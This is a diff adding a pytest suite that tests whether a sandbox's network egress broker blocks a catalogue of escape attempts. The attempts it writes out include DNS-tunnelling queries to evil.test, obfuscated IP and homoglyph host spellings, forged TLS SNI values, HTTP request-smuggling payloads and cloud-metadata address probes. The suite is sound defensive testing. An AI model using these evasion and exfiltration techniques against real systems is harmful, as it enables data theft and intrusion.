@@ -1,0 +1,178 @@
+"""Ways out of a sandbox that may reach one name, tried one by one, with a recorder outside that has to see nothing.
+
+The numbers are those of a catalogue of attacks on sandboxes' networks: direct (1), by questions (2), by spellings (3, 5, 7, 10),
+by bytes that parsers read differently (4, 11, 12), without a list (6), to places near the host (8), by what names lead to (9),
+to neighbours (17) and from outside (18). Many connections (15) are in test_egress_storms.py, budgets (14) in
+test_egress_terms.py, the broker's own walls (16) in test_egress.py.
+"""
+import subprocess
+
+import pytest
+
+from egress_world import NEEDS_ROOT, PUBLIC, PYTHON, SECOND, SIX, ZONE, https
+from egress_world import inside, internet, world  # noqa: F401 (fixtures)
+
+pytestmark = NEEDS_ROOT
+
+RULE = https("api.example.com", [80, 443, 7002])
+
+
+def nothing_leaves(inside, code, *arguments, rules=(RULE,), stdout=None):
+    """Runs it with the list and without: the recorder sees what reaches anything but the resolver."""
+    inside.internet.seen()
+    done = inside.python(code, *arguments, policy=inside.reach(*rules))
+    assert done["exit_code"] == 0, done["stderr"]
+    seen = inside.internet.seen()
+    assert inside.internet.bytes_to(seen) == 0, seen
+    if stdout is not None:
+        assert done["stdout"] == stdout
+    return done, seen
+
+
+TRY = """
+import socket, sys
+def tcp(host, port, data=b"out"):
+    try:
+        s = socket.create_connection((host, port), timeout=3); s.sendall(data); return s.recv(10) != b""
+    except (OSError, OverflowError, UnicodeError): return False
+def udp(host, port, data=b"out"):
+    try:
+        family = socket.AF_INET6 if ":" in host else socket.AF_INET
+        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.3); s.sendto(data, (host, port)); return s.recv(10) != b""
+    except (OSError, OverflowError, UnicodeError): return False
+def raw(family, kind, protocol):
+    try: socket.socket(family, kind, protocol); return True
+    except OSError: return False
+"""
+
+
+def test_1_nothing_leaves_directly_by_any_protocol(inside):
+    nothing_leaves(inside, TRY + f"""
+print([tcp(h, p) for h in ("{PUBLIC}", "{SECOND}", "{SIX}", "10.66.0.1") for p in (80, 443, 7002)].count(True),
+      [udp(h, p) for h in ("{PUBLIC}", "{SIX}", "255.255.255.255", "ff02::1") for p in (443, 7003, 53413)].count(True),
+      [raw(socket.AF_INET, socket.SOCK_RAW, 1), raw(socket.AF_INET6, socket.SOCK_RAW, 58), raw(socket.AF_PACKET, socket.SOCK_RAW, 3),
+       raw(socket.AF_INET, socket.SOCK_SEQPACKET, 132)].count(True))
+""", stdout="0 0 0\n")
+
+
+def test_2_questions_carry_nothing_to_anybody(inside):
+    code = TRY + """
+import struct
+def question(name): return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
+    bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack("!HH", 16, 1)
+for i in range(3):
+    q = question(f"{i:050x}.evil.test")
+    for host in ("192.0.2.53", "8.8.8.8", "192.0.2.10"): udp(host, 53, q)
+    tcp("192.0.2.53", 53, struct.pack("!H", len(q)) + q)
+    udp("224.0.0.251", 5353, q); udp("ff02::fb", 5353, q); udp("224.0.0.252", 5355, q)
+    try: socket.getaddrinfo(f"{i:050x}.evil.test", 1)
+    except OSError: pass
+for place in (("192.0.2.53", 853), ("192.0.2.10", 443), ("192.0.2.53", 443)): tcp(*place)
+"""
+    _, seen = nothing_leaves(inside, code)
+    assert [f for f in seen if f["kind"] == "question"] == []
+
+
+def test_3_5_7_10_no_spelling_is_another_place(inside):
+    hosts = ["evil.test", "evilapi.example.com", "api.example.com.evil.test", "example.com", "x.api.example.com", "api.example.comm",
+             "api..example.com", ".api.example.com", "api.example.com..", "api.example.com%2eevil.test", "api.example.com\\t", "api_example.com",
+             "api.ex\\u0430mple.com", "xn--pi-7kb.example.com", "a" * 64 + ".example.com",
+             "a." * 127 + "com", "0x7f000001", "2130706433", "127.1", "0177.0.0.1", "::ffff:127.0.0.1", "[::1]", "0", "192.0.2.10.",
+             "3221225994", "0300.0.2.10", "0xc0.0.2.10", "::ffff:192.0.2.10", "2002:c000:20a::1", "64:ff9b::c000:20a", "fe80::1%lo"]
+    code = TRY + "hosts = [h.encode().decode('unicode_escape') for h in sys.argv[1:]]\n" \
+                 "print([h for h in hosts for p in (80, 443, 7002) if tcp(h, p)])"
+    nothing_leaves(inside, code, *hosts, stdout="[]\n")
+    ports = TRY + 'print([p for p in (1, 79, 81, 442, 444, 7000, 7001, 8080, 65535, 0, 65536, -1) if tcp("api.example.com", p)])'
+    nothing_leaves(inside, ports, stdout="[]\n")
+
+
+HELLO = TRY + """
+import struct
+def hello(sni, version=b"\\3\\1"):
+    extension = b"" if sni is None else struct.pack("!HHHBH", 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
+    body = b"\\3\\3" + b"r" * 32 + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0" + struct.pack("!H", len(extension)) + extension
+    message = b"\\1" + len(body).to_bytes(3, "big") + body
+    return b"\\x16" + version + struct.pack("!H", len(message)) + message
+"""
+
+
+def test_4_11_no_hello_asks_for_another_name(inside):
+    code = HELLO + """
+good = b"api.example.com"
+names = [b"evil.test", good + b"\\0.evil.test", b"evil.test\\0" + good, good + b"\\n", b"\\x01" + good, good + b" ", b"*.example.com", b"",
+         b"192.0.2.10", good + b":443", b"api.example.com/", good.replace(b".", b"\\xe3\\x80\\x82"), None]
+print([n for n in names if tcp("api.example.com", 443, hello(n))],
+      tcp("api.example.com", 443, b"GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n"), tcp("api.example.com", 443, b"SSH-2.0-x\\r\\n"),
+      tcp("api.example.com", 443, b"\\x80\\x2e\\1\\3\\1" + bytes(40)), tcp("api.example.com", 443, hello(good)[:-1] + b"\\0" * 20000))
+"""
+    nothing_leaves(inside, code, stdout="[] False False False False\n")
+
+
+def test_4_12_no_request_hides_another_one(inside):
+    code = TRY + """
+host = b"Host: api.example.com\\r\\n"
+requests = [b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\n" + host + b"Host: evil.test\\r\\n\\r\\n",
+            b"GET http://evil.test/ HTTP/1.1\\r\\n" + host + b"\\r\\n", b"GET / HTTP/1.1\\n" + host + b"\\n", b"GET / HTTP/1.1\\r\\nHost : api.example.com\\r\\n\\r\\n",
+            b"GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n folded: x\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost: api.example.com\\0.evil.test\\r\\n\\r\\n",
+            b"POST / HTTP/1.1\\r\\n" + host + b"Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
+            b"POST / HTTP/1.1\\r\\n" + host + b"Content-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\nhello",
+            b"CONNECT evil.test:443 HTTP/1.1\\r\\n" + host + b"\\r\\n", b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
+            b"GET / HTTP/1.1\\r\\n" + host + b"A: " + b"x" * (1 << 20) + b"\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\nHost: api.example.com:81\\r\\n\\r\\n"]
+def answered(data):
+    try:
+        s = socket.create_connection(("api.example.com", 80), timeout=3); s.sendall(data); return s.recv(12)[:12] not in (b"", b"HTTP/1.1 400")
+    except OSError: return False
+print([r[:40] for r in requests if answered(r)])
+"""
+    nothing_leaves(inside, code, stdout="[]\n")
+
+
+def test_6_no_list_an_empty_one_and_a_broken_one_deny_all(inside):
+    code = TRY + f'print(tcp("api.example.com", 7002), tcp("{PUBLIC}", 7002), udp("{PUBLIC}", 7003))'
+    nothing_leaves(inside, code, rules=(), stdout="False False False\n")
+    inside.internet.seen()
+    for network in ({}, {"egress": []}, {"egress": None}, {"egress": [{"host": ""}]}, {"egress": "api.example.com:7002"}, {"egres": [RULE]}, None):
+        done = inside.run(PYTHON, "-c", code, policy=inside.policy(extends=["tool"], **{"network": network}))
+        assert b"True" not in done.stdout and done.returncode in (0, 125)
+    assert inside.internet.seen() == []
+
+
+def test_8_9_no_name_and_no_address_leads_near_the_host(inside):
+    inside.internet.ask(zone={**ZONE, "turn.example.com": [[PUBLIC], ["169.254.169.254"]], "deep.example.com": ["cname:chain.example.com"]})
+    near = ["private", "meta", "loop", "mapped", "nat64", "sixto4", "zero", "cgnat", "own", "ula", "multi", "evilchain"]
+    code = TRY + "print([h for h in sys.argv[1:] for p in (80, 7002, 53) if tcp(h, p)])"
+    places = [f"{name}.example.com" for name in near] + ["169.254.169.254", "127.0.0.1", "::1", "10.66.0.1", "100.64.0.1", "0.0.0.0", "::",
+                                                         "192.0.2.1", "2001:db8::1", "fe80::1", "224.0.0.1", "198.18.0.1", "fd70:696e:666f:6c64::1"]
+    nothing_leaves(inside, code, *places, rules=(https("*.example.com", [80, 7002, 53]),), stdout="[]\n")
+
+
+def test_17_the_broker_listens_to_nobody_outside_its_sandbox(inside):
+    policy = inside.reach(RULE)
+    process = inside.spawn(inside.argv(PYTHON, "-c", "print('up', flush=True); import time; time.sleep(4)", policy=policy), stdout=subprocess.PIPE,
+                           text=True)
+    try:
+        assert process.stdout.readline() == "up\n"
+        host = ["nsenter", f"--net=/run/netns/{inside.internet.host}"]
+        listening = subprocess.run([*host, "ss", "-Hlnxtuap"], capture_output=True, text=True).stdout
+        assert not [line for line in listening.splitlines() if "pinfold-broker" in line and "LISTEN" in line], listening
+    finally:
+        process.kill()
+        process.wait()
+
+
+def test_18_nobody_comes_in(inside):
+    code = """
+import socket
+s = socket.create_server(("::", 9000), family=socket.AF_INET6, dualstack_ipv6=True); s.settimeout(4)
+print("up", flush=True)
+try: s.accept(); print("came in")
+except OSError: print("nobody")
+"""
+    process = inside.spawn(inside.argv(PYTHON, "-c", code, policy=inside.reach(RULE)), stdout=subprocess.PIPE, text=True)
+    assert process.stdout.readline() == "up\n"
+    knock = "import socket, sys\nfor host in sys.argv[1:]:\n  try: socket.create_connection((host, 9000), timeout=0.4); print(host)\n  except OSError: pass"
+    for network, places in ((inside.internet.host, ["127.0.0.1", "::1", "192.0.2.1", "2001:db8::1", "198.18.0.1"]),
+                            (inside.internet.net, ["192.0.2.1", "2001:db8::1", "198.18.0.1"])):
+        done = subprocess.run(["nsenter", f"--net=/run/netns/{network}", PYTHON, "-c", knock, *places], capture_output=True, text=True)
+        assert done.stdout == ""
+    assert process.communicate(timeout=20)[0] == "nobody\n"
